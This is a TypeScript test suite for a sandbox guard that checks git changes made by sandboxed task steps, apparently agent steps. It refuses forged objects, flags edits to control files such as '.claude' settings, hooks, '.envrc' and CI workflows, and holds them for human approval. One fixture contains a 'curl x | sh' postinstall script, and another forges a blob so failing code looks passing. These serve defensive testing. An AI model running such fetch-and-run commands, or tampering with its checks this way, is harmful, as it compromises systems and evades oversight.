// The wall's pieces in-process, on real repositories in temp folders: the crossing (a step's
// commits written into a task store, forged ones refused), HEAD checks, reflogs, the inspection of
// control paths, the control record, the verify policy and the repository policy.

import { execFileSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ValidationReceipt } from '../src/domain/receipt.js';
import { CONTROL_REVIEW_COMMAND, CONTROL_REVIEW_STEP, evaluatePolicies } from '../src/domain/receipt-policy.js';
import type { Task } from '../src/domain/task.js';
import { signControlReview } from '../src/engine/control-receipt.js';
import { allowedByTemplate, reviewControlChanges } from '../src/engine/control-review.js';
import { afterSandboxedStep } from '../src/engine/wall.js';
import { checkLayoutAfterCommand, looseBranchRefs } from '../src/exec/sandbox/layout-guard.js';
import { controlChanges, nestedGitFolders } from '../src/git/control-changes.js';
import { changedLifecycle, controlReason, isManifest, lifecycleScripts } from '../src/git/control-paths.js';
import { crossBeforeGit, crossTaskObjects, holdsObjects } from '../src/git/cross-objects.js';
import { hiddenIndexEntries } from '../src/git/index-bits.js';
import { gitLayout } from '../src/git/layout.js';
import { checkTaskHead } from '../src/git/task-head.js';
import { ensureObjectDir, overlayEnv, stepObjectDir, workObjectDir } from '../src/git/task-objects.js';
import { dropMissingEntries, reflogIds, taskReflogs } from '../src/git/task-reflogs.js';
import { repoPolicy } from '../src/receipts/repo-policy.js';
import { approvePending, controlVerdict, readControlRecord, writeControlRecord } from '../src/store/control-record.js';
import { git, makeGitRepo, tempDir } from './helpers/core-fixtures.js';

/** A repository with a linked worktree on branch `task`, a task folder and its store. */
function setup() {
  const repo = makeGitRepo({ 'README.md': '# r\n', 'lib.js': 'ok\n' });
  const base = git(repo, 'rev-parse', 'HEAD');
  const worktree = join(tempDir('atlas-wall-'), 'tree');
  git(repo, 'worktree', 'add', '-q', '-b', 'task', worktree);
  const taskDir = tempDir('atlas-wall-task-');
  const store = ensureObjectDir(stepObjectDir(taskDir));
  const env = { ...process.env, ...overlayEnv(join(repo, '.git'), store) };
  const step = (...args: string[]) => execFileSync('git', args, { cwd: worktree, env, encoding: 'utf8' }).trim();
  return { repo, base, worktree, taskDir, store, step };
}

/** Writes a loose blob of `content` at the path object `id` names in `store` (a forgery). */
function forge(store: string, id: string, content: string): void {
  const { deflateSync } = require('node:zlib') as typeof import('node:zlib');
  const body = Buffer.from(content);
  mkdirSync(join(store, id.slice(0, 2)), { recursive: true });
  const path = join(store, id.slice(0, 2), id.slice(2));
  rmSync(path, { force: true });
  writeFileSync(path, deflateSync(Buffer.concat([Buffer.from(`blob ${body.length}\0`), body])));
}

describe('the crossing', () => {
  it("brings a step's commits, amended ones and staged blobs across, verified, and empties the store", async () => {
    const t = setup();
    expect(await crossTaskObjects({ worktree: t.worktree, taskDir: t.taskDir, branch: 'task', base: t.base })).toEqual({ objects: 0 });
    writeFileSync(join(t.worktree, 'a.txt'), 'a\n');
    t.step('add', 'a.txt');
    t.step('commit', '-qm', 'first');
    const first = t.step('rev-parse', 'HEAD');
    t.step('commit', '-q', '--amend', '-m', 'amended');
    writeFileSync(join(t.worktree, 'staged.txt'), 'staged\n');
    t.step('add', 'staged.txt');
    expect(() => git(t.repo, 'cat-file', '-e', first)).toThrow();
    expect(holdsObjects(t.store)).toBe(true);
    const crossed = await crossTaskObjects({ worktree: t.worktree, taskDir: t.taskDir, branch: 'task', base: t.base });
    expect(crossed.objects).toBeGreaterThan(3);
    expect(holdsObjects(t.store)).toBe(false);
    git(t.repo, 'cat-file', '-e', first);
    expect(git(t.worktree, 'cat-file', 'blob', ':staged.txt')).toBe('staged');
    git(t.repo, 'fsck', '--strict', '--no-dangling');
    expect(readFileSync(join(t.taskDir, 'crossed-tip'), 'utf8').trim()).toBe(git(t.worktree, 'rev-parse', 'HEAD'));
    // The next step crosses only what is new.
    writeFileSync(join(t.worktree, 'b.txt'), 'b\n');
    t.step('add', 'b.txt');
    t.step('commit', '-qm', 'second');
    expect((await crossBeforeGit(t.taskDir)).objects).toBe(0); // no task.json: nothing to do
    expect((await crossTaskObjects({ worktree: t.worktree, taskDir: t.taskDir, branch: 'task', base: t.base })).objects).toBeLessThan(6);
  });

  it('refuses a forged blob: the branch goes back, the reflogs are mended, the store is kept', async () => {
    const t = setup();
    writeFileSync(join(t.worktree, 'lib.js'), 'broken\n');
    t.step('commit', '-qam', 'broken');
    const id = t.step('rev-parse', 'HEAD:lib.js');
    forge(t.store, id, 'passing\n');
    writeFileSync(join(t.store, 'info', 'alternates'), `${tempDir()}\n`);
    const error = await crossTaskObjects({ worktree: t.worktree, taskDir: t.taskDir, branch: 'task', base: t.base }).catch((e: Error) => e);
    expect(String(error)).toContain('did not verify');
    expect(String(error)).toContain('back at its last verified commit');
    expect(git(t.repo, 'rev-parse', 'task')).toBe(t.base);
    git(t.repo, 'fsck', '--strict', '--no-dangling');
    expect(holdsObjects(t.store)).toBe(false);
    expect(readdirSync(join(t.taskDir, 'refused')).some((n) => n.startsWith('objects-'))).toBe(true);
  });

  it("stops when HEAD no longer names the task's branch, before any git runs", async () => {
    const t = setup();
    const gitDir = git(t.worktree, 'rev-parse', '--absolute-git-dir');
    checkTaskHead(gitDir, 'task');
    writeFileSync(join(gitDir, 'HEAD'), 'ref: refs/heads/main\n');
    await expect(crossTaskObjects({ worktree: t.worktree, taskDir: t.taskDir, branch: 'task' })).rejects.toThrow(
      /no longer names its branch task/,
    );
    rmSync(join(gitDir, 'HEAD'));
    mkdirSync(join(gitDir, 'HEAD'));
    expect(() => checkTaskHead(gitDir, 'task')).toThrow(/cannot be read as a file/);
  });

  it('reflogs: ids read, entries naming missing objects dropped', async () => {
    const t = setup();
    const layout = gitLayout(t.worktree)!;
    const files = taskReflogs(layout, 'task');
    expect(taskReflogs(layout, 'HEAD')).toHaveLength(1);
    expect(reflogIds(files)).toContain(t.base);
    const missing = 'f'.repeat(40);
    const log = files[0]!;
    writeFileSync(log, `${readFileSync(log, 'utf8')}${t.base} ${missing} x <x> 0 +0000\tforged\n`);
    await dropMissingEntries(t.worktree, files);
    expect(readFileSync(log, 'utf8')).not.toContain(missing);
    expect(reflogIds([join(t.taskDir, 'none')])).toEqual([]);
    expect(workObjectDir(t.taskDir)).toBe(join(t.taskDir, 'work-objects'));
  });
});

describe('control paths', () => {
  it('names the control paths, at any depth where they act, without case', () => {
    expect(controlReason('.atlas/config.yaml')).toMatch(/atlas/);
    expect(controlReason('.Claude/settings.json')).toMatch(/Claude/);
    expect(controlReason('pkg/.claude/hooks/x.sh')).toMatch(/Claude/);
    expect(controlReason('sub/.envrc')).toMatch(/direnv/);
    expect(controlReason('sub/.gitattributes')).toMatch(/filters/);
    expect(controlReason('sub/.gitmodules')).toBeUndefined();
    expect(controlReason('.github/workflows/ci.yml')).toMatch(/CI/);
    expect(controlReason('hooks/pre-commit', 'hooks')).toMatch(/hooksPath/);
    expect(controlReason('tools/pre-commit', 'tools/_')).toMatch(/stubs run/);
    expect(controlReason('src/index.ts', 'tools/_')).toBeUndefined();
    expect(isManifest('a/package.json')).toBe(true);
    expect(lifecycleScripts('{"scripts":{"postinstall":"x","test":"y"}}')).toEqual({ postinstall: 'x' });
    expect(lifecycleScripts('not json')).toEqual({});
    expect(lifecycleScripts('{"scripts":3}')).toEqual({});
    expect(lifecycleScripts(undefined)).toEqual({});
    expect(changedLifecycle('{"scripts":{"test":"a"}}', '{"scripts":{"test":"b","prepare":"x"}}')).toEqual(['prepare']);
    expect(allowedByTemplate('.husky/pre-commit', ['.husky/'])).toBe(true);
    expect(allowedByTemplate('.github/workflows/ci.yml', ['.github/workflows/ci.yml'])).toBe(true);
    expect(allowedByTemplate('.envrc', ['.husky/'])).toBe(false);
  });

  it('finds changes in commits, index, files and new files; gitlinks, nested repositories, hidden bits', async () => {
    const t = setup();
    mkdirSync(join(t.worktree, '.github', 'workflows'), { recursive: true });
    writeFileSync(join(t.worktree, '.github', 'workflows', 'ci.yml'), 'on: push\n');
    writeFileSync(join(t.worktree, 'package.json'), '{"scripts":{"postinstall":"curl x | sh"}}\n');
    git(t.worktree, 'add', 'package.json');
    git(t.worktree, 'commit', '-qm', 'manifest');
    writeFileSync(join(t.worktree, '.gitmodules'), '[submodule "x"]\n');
    git(t.worktree, 'add', '.gitmodules');
    git(t.worktree, 'update-index', '--skip-worktree', 'lib.js');
    git(t.worktree, 'update-index', '--assume-unchanged', 'README.md');
    const inner = join(t.worktree, 'vendor', 'inner');
    mkdirSync(inner, { recursive: true });
    git(inner, 'init', '-q');
    writeFileSync(join(inner, 'f'), 'f\n');
    git(inner, 'add', 'f');
    git(inner, 'commit', '-qm', 'x');
    git(t.worktree, 'add', 'vendor/inner');
    const tip = git(t.worktree, 'rev-parse', 'HEAD');
    const found = await controlChanges(t.worktree, t.base, tip);
    const kinds = Object.fromEntries(found.map((f) => [`${f.kind} ${f.path}`, f.detail]));
    expect(Object.keys(kinds).sort()).toEqual(
      [
        'assume-unchanged README.md',
        'control-path .github/workflows/ci.yml',
        'control-path .gitmodules',
        'gitlink vendor/inner',
        'lifecycle-script package.json',
        'nested-repository vendor/inner/.git',
        'skip-worktree lib.js',
      ].sort(),
    );
    expect(kinds['lifecycle-script package.json']).toContain('postinstall');
    expect(await nestedGitFolders(t.worktree)).toEqual(['vendor/inner/.git']);
    expect(await hiddenIndexEntries(t.worktree)).toEqual(['README.md', 'lib.js']);
    expect(await hiddenIndexEntries(tempDir())).toEqual([]);
  });

  it('the review stops for what is neither allowed nor approved, moves a nested repository out, signs nothing without a recorder', async () => {
    const t = setup();
    const notes: string[] = [];
    const task = { worktree: t.worktree, base_commit: t.base, in_place: false, control_paths: ['.husky/'] } as unknown as Task;
    const run = { task, manager: { ref: { dir: t.taskDir } } as never, reporter: { note: (n: string) => notes.push(n) } };
    const ok = { status: 'ok' as const, summary: 'done' };
    expect(await reviewControlChanges(run, 0, ok)).toEqual(ok);
    expect(controlVerdict(t.taskDir, t.base)).toBe('none');
    mkdirSync(join(t.worktree, '.husky'));
    writeFileSync(join(t.worktree, '.husky', 'pre-commit'), 'x\n');
    writeFileSync(join(t.worktree, '.envrc'), 'x\n');
    git(join(t.worktree), 'init', '-q', 'nested');
    const waiting = await reviewControlChanges(run, 0, ok);
    expect(waiting).toMatchObject({ status: 'waiting', reason: 'approval' });
    expect((waiting as { prompt: string }).prompt).toContain('.envrc');
    expect((waiting as { prompt: string }).prompt).not.toContain('.husky/pre-commit (');
    expect(notes.join('\n')).toContain('(allowed by the template)');
    expect(notes.join('\n')).toContain('moved to');
    expect(controlVerdict(t.taskDir, t.base)).toBe('unapproved');
    expect(controlVerdict(t.taskDir, undefined)).toBe('unchecked');
    const failed = { status: 'failed' as const, error: 'no' };
    expect(await reviewControlChanges(run, 0, failed)).toMatchObject({ status: 'failed', details: { control_pending: 1 } });
    expect(approvePending(t.taskDir)).toHaveLength(1);
    expect(approvePending(t.taskDir)).toEqual([]);
    expect(controlVerdict(t.taskDir, t.base)).toBe('approved');
    expect(await reviewControlChanges(run, 0, ok)).toMatchObject({ status: 'ok', details: { control_pending: 0 } });
    writeControlRecord(t.taskDir, { ...readControlRecord(t.taskDir)!, inspected_commit: 'x' });
    expect(controlVerdict(t.taskDir, t.base)).toBe('unchecked');
    writeFileSync(join(t.taskDir, 'control.json'), '{');
    expect(readControlRecord(t.taskDir)).toBeUndefined();
  });
});

describe('after a sandboxed step', () => {
  it('crosses, then reviews; a crossing that fails makes the step a permanent failure', async () => {
    const t = setup();
    const notes: string[] = [];
    const task = { worktree: t.worktree, base_commit: t.base, branch: 'task', in_place: false } as unknown as Task;
    const run = { task, manager: { ref: { dir: t.taskDir } } as never, reporter: { note: (n: string) => notes.push(n) } };
    writeFileSync(join(t.worktree, 'x.txt'), 'x\n');
    t.step('add', 'x.txt');
    t.step('commit', '-qm', 'x');
    expect(await afterSandboxedStep(run, 0, { status: 'ok' })).toEqual({ status: 'ok' });
    git(t.repo, 'cat-file', '-e', 'task:x.txt');
    writeFileSync(join(git(t.worktree, 'rev-parse', '--absolute-git-dir'), 'HEAD'), 'ref: refs/heads/main\n');
    expect(await afterSandboxedStep(run, 0, { status: 'ok' })).toMatchObject({
      status: 'failed',
      permanent: true,
      error: expect.stringMatching(/no longer names/),
      hint: expect.any(String),
    });
  });

  it('a control review is signed through the recorder with its changes as output', async () => {
    const taskDir = tempDir('atlas-wall-task-');
    const runs: { command: string; stepName: string; exitCode: number; stdoutArtifact: string }[] = [];
    const recorder = {
      record: async (_m: unknown, _t: unknown, run: (typeof runs)[number]) => (runs.push(run), { receipt_id: 'rcpt-00000001' }),
    } as never;
    const manager = { ref: { dir: taskDir } } as never;
    expect(
      await signControlReview({ manager, task: {} as Task, recorder: undefined, stepIndex: 0, exitCode: 1, lines: ['a'] }),
    ).toBeUndefined();
    expect(
      await signControlReview({ manager, task: {} as Task, recorder, stepIndex: 0, exitCode: 1, lines: ['.envrc (control-path)'] }),
    ).toBe('rcpt-00000001');
    expect(runs[0]).toMatchObject({ command: CONTROL_REVIEW_COMMAND, stepName: CONTROL_REVIEW_STEP, exitCode: 1 });
    expect(readFileSync(join(taskDir, runs[0]!.stdoutArtifact), 'utf8')).toBe('.envrc (control-path)\n');
  });
});

describe("refs beside the task's branch", () => {
  it("a new loose ref is moved into the task folder; the task's own branch and older refs are not", () => {
    const t = setup();
    const before = looseBranchRefs(t.worktree);
    expect(checkLayoutAfterCommand(t.worktree, t.taskDir, [], 0, before)).toBeUndefined();
    const head = git(t.worktree, 'rev-parse', 'HEAD');
    mkdirSync(join(t.repo, '.git', 'refs', 'heads', 'origin'), { recursive: true });
    writeFileSync(join(t.repo, '.git', 'refs', 'heads', 'origin', 'main'), `${head}\n`);
    writeFileSync(join(t.repo, '.git', 'refs', 'heads', 'task.lock'), `${head}\n`);
    const error = checkLayoutAfterCommand(t.worktree, t.taskDir, [], 0, before);
    expect(error?.message).toContain('refs/heads/origin/main');
    expect(error?.message).not.toContain('task.lock');
    expect(git(t.repo, 'for-each-ref', '--format=%(refname)', 'refs/heads/origin')).toBe('');
  });
});

describe('verify: control reviews', () => {
  const receipt = (over: Partial<ValidationReceipt>): ValidationReceipt => ({
    receipt_id: 'rcpt-00000001',
    step_name: 'validate',
    command: 'npm test',
    exit_code: 0,
    started_at: '2026-01-01T00:00:00Z',
    completed_at: '2026-01-01T00:00:01Z',
    duration: '1s',
    stdout_hash: 'a'.repeat(64),
    stderr_hash: 'b'.repeat(64),
    key_path: "m/44'/236'/0'/0/0",
    signature: '00',
    message_version: 4,
    ...over,
  });
  const review = (exit: number, at: string) =>
    receipt({ command: CONTROL_REVIEW_COMMAND, step_name: CONTROL_REVIEW_STEP, exit_code: exit, completed_at: at });
  const policy = (receipts: ValidationReceipt[]) =>
    evaluatePolicies([{ taskId: 'task-20260101-000000', receipts: receipts.map((r) => ({ receipt: r, valid: true })) }], {
      requireSteps: [],
      requirePass: false,
      requireControlReview: true,
      requirePristine: true,
    }).map((p) => [p.policy, p.ok]);

  it('refuses a task whose last review waits for a person; reviews do not count as validation', () => {
    expect(policy([receipt({}), review(1, '2026-01-01T00:00:02Z')])).toEqual([
      ['require-pristine', false],
      ['require-control-review', false],
    ]);
    expect(
      policy([receipt({ validation_tree: 'pristine' }), review(1, '2026-01-01T00:00:02Z'), review(0, '2026-01-01T00:00:03Z')]),
    ).toEqual([
      ['require-pristine', true],
      ['require-control-review', true],
    ]);
    expect(policy([receipt({ validation_tree: 'pristine' })])).toEqual([
      ['require-pristine', true],
      ['require-control-review', true],
    ]);
  });

  it("the repository's policy can require it", async () => {
    const repo = makeGitRepo();
    mkdirSync(join(repo, '.atlas'));
    writeFileSync(join(repo, '.atlas', 'config.yaml'), 'validation:\n  require_control_review: true\n');
    git(repo, 'add', '-A');
    git(repo, 'commit', '-qm', 'policy');
    expect(await repoPolicy(repo, git(repo, 'rev-parse', 'HEAD'))).toEqual({ commands: [], requireControlReview: true });
    writeFileSync(join(repo, '.atlas', 'config.yaml'), 'validation:\n  require_control_review: maybe\n');
    git(repo, 'commit', '-qam', 'bad');
    await expect(repoPolicy(repo, git(repo, 'rev-parse', 'HEAD'))).rejects.toThrow(/require_control_review/);
  });
});
